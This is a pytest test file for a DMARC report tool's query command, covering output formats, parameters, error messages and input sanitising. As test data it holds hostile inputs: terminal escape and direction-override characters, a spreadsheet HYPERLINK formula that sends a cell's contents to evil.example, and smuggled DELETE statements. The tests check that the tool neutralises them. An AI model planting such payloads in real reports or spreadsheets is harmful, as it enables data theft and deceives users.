"""`ruamill query`: a question in, its answer as a table, CSV, JSON or Parquet out; in one line whatever goes wrong."""

import csv
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import StringIO
from pathlib import Path
from typing import Any

import pytest

from ingest.commands import query
from ingest.configuration import ConfigurationError
from ingest.settings import Settings
from ingest.status import DONE, OUTAGE, TEMPORARY, WRONG_USE
from store.asking import AskingError
from store.database import Database
from store.migrate import upgrade
from store.questions import questions
from store.views import VIEWS
from tests.ingest.program import RUAMILL, Program
from tests.ingest.terminal import on_terminal, printed
from tests.servers.ports import free_port
from tests.store.kit import content, feedback, record, take

TODAY = date(2026, 11, 22)
HOSTILE = "\N{CONTROL SEQUENCE INTRODUCER}31m\N{RIGHT-TO-LEFT OVERRIDE}\N{DELETE}"
SQL = (
    "SELECT day, policy_domain, messages, dmarc_pass, begins_at, np FROM records_flat ORDER BY policy_domain"
)


@pytest.fixture
def database(database_url: str) -> Iterator[Database]:
    database = Database(database_url)
    upgrade(database)
    take(database, feedback("1"))
    yield database
    database.close()


@pytest.fixture
def settings(database: Database, database_url: str) -> Settings:
    del database
    return Settings.model_validate({"database": database_url})


def ask(settings: Settings, sql: str | None = None, **options: Any) -> int:
    usual: dict[str, Any] = dict.fromkeys(("name", "domain", "since", "until", "form", "output", "limit"))
    usual |= {"timeout": 60.0, "names": False, "today": TODAY}
    return query.run(settings, sql, **(usual | options))


def answered(
    capsys: pytest.CaptureFixture[str], settings: Settings, sql: str | None = None, **options: Any
) -> Any:
    """Ask for JSON, and read it."""
    capsys.readouterr()
    assert ask(settings, sql, form="json", **options) == DONE
    return json.loads(capsys.readouterr().out)


# -- forms


def test_a_pipe_gets_csv(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    assert ask(settings, SQL) == DONE
    shown = capsys.readouterr()
    assert shown.out == (
        "day,policy_domain,messages,dmarc_pass,begins_at,np\r\n"
        "2026-11-01,example.org,12,true,2026-11-01T00:00:00+00:00,\r\n"
    )
    assert shown.err == ""


def test_json_is_a_list_of_objects(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    row = {
        "day": "2026-11-01",
        "policy_domain": "example.org",
        "messages": 12,
        "dmarc_pass": True,
        "begins_at": "2026-11-01T00:00:00+00:00",
        "np": None,
    }
    assert answered(capsys, settings, SQL) == [row]
    assert answered(capsys, settings, "SELECT * FROM records_flat WHERE messages < 0") == []


def test_parquet_is_typed(settings: Settings, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    file = tmp_path / "answer.parquet"
    assert ask(settings, SQL, output=file) == DONE
    table = parquet.read_table(file)
    assert {field.name: str(field.type) for field in table.schema} == {
        "day": "date32[day]",
        "policy_domain": "string",
        "messages": "int64",
        "dmarc_pass": "bool",
        "begins_at": "timestamp[us, tz=UTC]",
        "np": "string",
    }
    assert table.to_pylist() == [
        {
            "day": date(2026, 11, 1),
            "policy_domain": "example.org",
            "messages": 12,
            "dmarc_pass": True,
            "begins_at": datetime(2026, 11, 1, tzinfo=UTC),
            "np": None,
        }
    ]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_parquet_wants_a_file_and_its_library(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ConfigurationError, match="give --output FILE"):
        ask(settings, SQL, form="parquet")
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # what an environment without it says
    with pytest.raises(ConfigurationError, match=r'pip install "ruamill\[parquet\]"'):
        ask(settings, SQL, output=tmp_path / "answer.parquet")
    assert not (tmp_path / "answer.parquet").exists()


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    ("name", "beginning"), [("a.csv", "day,"), ("a.JSON", "[\n{"), ("a.table", "day "), ("a.txt", "day,")]
)
def test_a_file_has_the_form_of_its_name(
    name: str, beginning: str, settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / name).write_text("of yesterday")
    assert ask(settings, SQL, output=tmp_path / name) == DONE
    assert (tmp_path / name).read_text().startswith(beginning)
    assert capsys.readouterr() == ("", f"1 row in {tmp_path / name}\n")


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_answer_that_is_cut_says_so(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    assert ask(settings, "VALUES (1), (2), (3)", limit=2) == DONE
    assert capsys.readouterr() == ("column1\r\n1\r\n2\r\n", "only the first 2 rows; more with --limit\n")
    assert ask(settings, "VALUES (1), (2), (3)", limit=3) == DONE
    assert capsys.readouterr().err == ""


# -- questions and views by their names


def test_whatever_has_a_name_is_answered(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    """Without a word more: there is one domain, and the days are the last that were reported."""
    for name in (*questions(), *VIEWS):
        assert isinstance(answered(capsys, settings, name=name), list), name


def test_the_days_are_the_last_that_were_reported(
    settings: Settings, database: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    """But for days that are still to come: a reporter's clock is wrong."""
    take(
        database,
        *(feedback(str(begin), begin=begin, end=begin + 3600) for begin in (1_790_899_200, 1_790_985_600)),
    )
    take(database, feedback("late", begin=1_830_000_000, end=1_830_003_600))
    rows = answered(capsys, settings, name="pass_rate_per_day")
    assert [row["day"] for row in rows] == ["2026-10-03", "2026-11-01"]
    rows = answered(capsys, settings, name="pass_rate_per_day", until="2026-10-31")
    assert [row["day"] for row in rows] == ["2026-10-02", "2026-10-03"]
    rows = answered(capsys, settings, name="pass_rate_per_day", since="2026-10-02")
    assert [row["day"] for row in rows] == ["2026-10-02", "2026-10-03", "2026-11-01"]


def test_sql_of_ones_own_may_have_the_same_parameters(
    settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    sql = "SELECT count(*) AS n FROM domain_days WHERE policy_domain = :domain AND day >= :since AND day <= :until"
    assert answered(capsys, settings, sql) == [{"n": 1}]
    assert answered(capsys, settings, sql, domain="Example.ORG.") == [{"n": 1}]
    assert answered(capsys, settings, sql, domain="example.com") == [{"n": 0}]
    assert answered(capsys, settings, sql, until="2026-10-31") == [{"n": 0}]


def test_a_view_is_cut_by_domain_and_day(settings: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    for options, number in (
        ({"domain": "example.org"}, 1),
        ({"domain": "example.com"}, 0),
        ({"since": "2026-11-02"}, 0),
        ({"since": "2026-11-01", "until": "2026-11-01"}, 1),
    ):
        assert len(answered(capsys, settings, name="records_flat", **options)) == number


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    ("options", "told"),
    [
        ({}, "give one SELECT or --name NAME"),
        ({"sql": "SELECT 1", "name": "sources"}, "give one SELECT or --name NAME"),
        ({"name": "sorces"}, 'no question or view is called "sorces"; did you mean "sources"?'),
        ({"name": "zzzz"}, "`ruamill query --list` names them"),
        ({"name": "sources", "since": "2026-11-01"}, "the question has no :since: leave --since out"),
        ({"name": "reporter_quality", "domain": "example.org"}, "the question has no :domain"),
        ({"sql": "SELECT 1", "domain": "example.org"}, "the question has no :domain"),
        (
            {"name": "domain_days", "since": "yesterday"},
            '--since "yesterday" is no day: write it as 2026-11-01',
        ),
        ({"name": "domain_days", "until": "2026-02-30"}, "is no day"),
        ({"sql": "SELECT 1", "timeout": float("nan")}, "--timeout must be a number of seconds"),
        ({"sql": "SELECT 1", "timeout": float("inf")}, "--timeout must be a number of seconds"),
        (
            {"name": "domain_days", "since": "2026-11-02", "until": "2026-11-01"},
            "--since 2026-11-02 is after",
        ),
    ],
)
def test_wrong_use_says_what_to_write(options: dict[str, Any], told: str, settings: Settings) -> None:
    with pytest.raises(ConfigurationError) as wrong:
        ask(settings, **options)
    assert told in str(wrong.value)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("name", ["ruamill.db", "ruamill.db-wal", "link.csv"])
def test_an_answer_is_not_written_over_the_database(name: str, settings: Settings, tmp_path: Path) -> None:
    (tmp_path / "link.csv").symlink_to("ruamill.db")
    before = (tmp_path / "ruamill.db").read_bytes()
    with pytest.raises(ConfigurationError, match="is the database itself: name another file"):
        ask(settings, SQL, output=tmp_path / name)
    assert (tmp_path / "ruamill.db").read_bytes() == before


def test_a_question_about_one_domain_of_several_wants_its_name(
    settings: Settings, database: Database
) -> None:
    take(database, *(feedback(str(number), domain=f"{number:02}.example") for number in range(30)))
    with pytest.raises(ConfigurationError) as wrong:
        ask(settings, name="who_sends")
    assert str(wrong.value).startswith("the question wants --domain DOMAIN: 00.example, 01.example, ")
    assert str(wrong.value).endswith("19.example, …")


def test_before_the_first_report_there_is_no_domain(tmp_path: Path) -> None:
    database = Database(f"sqlite:///{tmp_path}/empty.db")
    upgrade(database)
    database.close()
    with pytest.raises(ConfigurationError, match="nothing was reported yet"):
        ask(Settings.model_validate({"database": f"sqlite:///{tmp_path}/empty.db"}), name="who_sends")


def test_the_list_names_what_can_be_asked(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Without a database."""
    assert ask(Settings.model_validate({"database": f"sqlite:///{tmp_path}/none.db"}), names=True) == DONE
    listed = [line.split("\t") for line in capsys.readouterr().out.splitlines()]
    assert ["who_sends", "Who sends as me?", "--domain --since --until"] in listed
    assert {*questions(), *VIEWS} <= {words[0] for words in listed}


# -- what strangers write


def test_no_answer_steers_a_terminal(
    settings: Settings, database: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    take(database, feedback("2", reporter=HOSTILE, domain=f"a{HOSTILE}.example"))
    for form in ("table", "csv", "json"):
        sql = f'SELECT reporter, policy_domain AS "{HOSTILE}" FROM reports'  # noqa: S608 (hostile on purpose)
        assert ask(settings, sql, form=form) == DONE
        shown = "".join(capsys.readouterr())
        assert "31m" in shown
        assert {char for char in shown if not char.isprintable()} <= {"\n", "\r"}
    with pytest.raises(ConfigurationError) as wrong:
        ask(settings, name="who_sends")
    assert str(wrong.value).isprintable()


def test_json_and_files_keep_every_character(
    settings: Settings, database: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    take(database, feedback("2", reporter=HOSTILE))
    sql = "SELECT reporter FROM reports WHERE report_id = '2'"
    assert answered(capsys, settings, sql) == [{"reporter": HOSTILE}]
    assert ask(settings, sql, output=tmp_path / "answer.csv") == DONE
    assert (tmp_path / "answer.csv").read_text(encoding="utf-8") == f"reporter\n{HOSTILE}\n"


def test_no_report_computes_in_a_spreadsheet(
    settings: Settings, database: Database, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://evil.example?x="&A1,"Click")'
    take(
        database,
        feedback(
            "2", record("192.0.2.1", 7), reporter=formula.replace('"', "&quot;").replace("&A", "&amp;A")
        ),
    )
    assert ask(settings, "SELECT reporter, -messages AS n FROM reports WHERE report_id = '2'") == DONE
    rows = list(csv.reader(StringIO(capsys.readouterr().out, newline="")))
    assert rows == [["reporter", "n"], [f"'{formula}", "-7"]]


# -- as a program


@pytest.fixture
def program(tmp_path: Path) -> Program:
    program = Program(tmp_path, f"sqlite:///{tmp_path}/ruamill.db")
    database = Database(f"sqlite:///{tmp_path}/ruamill.db")
    upgrade(database)
    take(database, feedback("1"), feedback("2", domain="example.net"))
    database.close()
    return program


def test_a_terminal_gets_a_table_that_fits(program: Program) -> None:
    command: list[str | Path] = [RUAMILL, "--config", program.folder / "ruamill.toml", "query"]
    narrow = printed(on_terminal([*command, SQL], program.folder))
    assert narrow[0].split() == ["day", "policy_domain", "messages", "dmarc_pass", "begins_at", "np"]
    assert narrow[2].split() == ["2026-11-01", "example.net", "12", "true", "2026-11-01", "00:00:00", "-"]
    named = printed(
        on_terminal([*command, "--name", "records_flat", "--domain", "example.org"], program.folder)
    )
    assert named[0] == VIEWS["records_flat"].comment
    assert "source_ip        192.0.2.1" in named  # too wide: one beneath the other
    for line in (*narrow, *named):
        assert len(line) <= 80


def test_a_question_is_read_from_standard_input(program: Program) -> None:
    done = subprocess.run(
        [RUAMILL, "--config", program.folder / "ruamill.toml", "query", "-"],
        input=b"SELECT 1 AS one -- so\n",
        capture_output=True,
        check=True,
    )
    assert done.stdout == b"one\r\n1\r\n"


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["DELETE FROM report"], '"DELETE": only one SELECT is answered: a query never changes anything'),
        (["SELECT 1; DELETE FROM report"], "only one SELECT is answered: a query never changes anything"),
        (
            [
                "WITH RECURSIVE a (n) AS (SELECT 1 UNION ALL SELECT n FROM a) SELECT sum(n) FROM a",
                "--timeout",
                "0.5",
            ],
            "no answer in 0.5 seconds; ask for fewer days, or give it longer with --timeout",
        ),
        (["SELECT ownr FROM sources"], 'there is no column "ownr"; did you mean "owner"?'),
        (["--name", "who_send"], 'no question or view is called "who_send"; did you mean "who_sends"?'),
    ],
    ids=["write", "second statement", "endless", "unknown column", "unknown name"],
)
def test_bad_input_gets_one_line_and_changes_nothing(words: list[str], told: str, program: Program) -> None:
    database = Database(f"sqlite:///{program.folder}/ruamill.db")
    before = content(database)
    done = program.run("query", *words)
    assert (done.returncode, done.stdout, done.stderr) == (WRONG_USE, "", f"ruamill: {told}\n")
    assert content(database) == before
    database.close()


def test_a_database_that_is_away_is_temporary(tmp_path: Path) -> None:
    program = Program(tmp_path, f"postgresql://ruamill:s3cret@127.0.0.1:{free_port()}/reports")
    done = program.run("query", "SELECT 1")
    assert (done.returncode, done.stdout, len(done.stderr.splitlines())) == (TEMPORARY, "", 1)
    assert "s3cret" not in done.stderr


def test_a_full_disk_behind_standard_output_is_told_in_one_line(program: Program) -> None:
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            [RUAMILL, "--config", program.folder / "ruamill.toml", "query", "SELECT 1"],
            check=False,
            stdout=full,
            stderr=subprocess.PIPE,
        )
    assert (done.returncode, done.stderr) == (OUTAGE, b"ruamill: standard output: No space left on device\n")


def test_a_reader_that_has_enough_is_no_error(program: Program) -> None:
    endless = "WITH RECURSIVE a (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM a) SELECT n FROM a"
    with program.started("query", endless, "--timeout", "60") as process:
        assert process.stdout
        assert process.stdout.readline() == "n\n"
        process.stdout.close()
        assert process.stderr
        assert process.stderr.read() == ""
        assert process.wait(60) == 1


def test_an_asking_error_of_the_database_reaches_the_person(settings: Settings) -> None:
    with pytest.raises(AskingError, match="there is no view"):
        ask(settings, "SELECT * FROM nothing_of_that_name")
